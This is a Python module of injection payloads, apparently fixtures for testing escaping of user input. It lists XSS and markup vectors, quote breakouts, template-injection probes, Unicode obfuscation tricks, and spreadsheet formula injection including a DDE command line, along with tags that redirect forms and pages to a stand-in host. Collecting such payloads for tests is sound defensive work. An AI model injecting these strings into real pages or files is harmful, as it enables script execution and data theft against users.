"""Words that want to be more than words: for every text that somebody may type."""

from __future__ import annotations

from itertools import product

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<b>đậm</b>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>a</a>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>", "<form action=//evil.example>",
    "<math><mi xlink:href=javascript:alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<!--><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>", "<object data=javascript:alert(1)>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<![CDATA[<script>alert(1)</script>]]>", "<xml><a xmlns:a='http://www.w3.org/1999/xhtml'><a:body onload='alert(1)'/></a></xml>",
)  # fmt: skip
BREAKING = (
    '" onmouseover=alert(1) x="', "' onmouseover=alert(1) x='", '"><script>alert(1)</script>', "'><script>alert(1)</script>", '"autofocus onfocus=alert(1) "',
    "`onmouseover=alert(1)`", '\\"><script>alert(1)</script>', '"]}</script><script>alert(1)</script>', '"-alert(1)-"', "'-alert(1)-'", "';alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "{{7*7}}", "{% debug %}", "${7*7}",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example",
)  # fmt: skip
CELLS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    '=HYPERLINK("http://evil.example","a")',
    "=cmd|' /C calc'!A0",
    "%0A=1+1",
)
LETTERS = (
    "\u202e<b>",
    "\u200b<script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<scr\u00adipt>",
    "<İmg src=x onerror=alert(1)>",
)
PAYLOADS = (*MARKUP, *BREAKING, *CELLS, *LETTERS, *(f"{a}{b}" for a, b in product(('">', "'>"), MARKUP[1:5])))
RAW = tuple(one for one in PAYLOADS if "<" in one or '"' in one)
"""Those that no page may hold as they are."""
